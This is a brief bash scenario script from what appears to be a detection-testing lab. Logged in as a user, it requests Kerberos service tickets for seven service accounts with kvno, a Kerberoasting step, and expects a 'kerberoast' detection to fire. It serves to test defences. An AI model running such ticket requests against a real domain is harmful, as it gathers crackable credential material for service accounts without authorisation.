#: title: Tickets for every service with an account of its own, with AES, in a second
#: kind: attack
#: detect: kerberoast
#: place: kerberoast
#: cut: port 88
#: count: 7 kerberos.msg_type == 13
. "$(dirname "${BASH_SOURCE[0]}")/../steps.sh"
run() {
  EXPECT=none step attacker oscar.nilsson "logon" login attacker oscar.nilsson
  EXPECT=kerberoast step attacker oscar.nilsson "AES tickets" kvno MSSQLSvc/sql1.$DNSDOM:1433 MSSQLSvc/sql1.$DNSDOM HTTP/intranet.$DNSDOM HTTP/intranet backup/srv-file.$DNSDOM HTTP/reports.$DNSDOM HTTP/legacy-portal.$DNSDOM
}
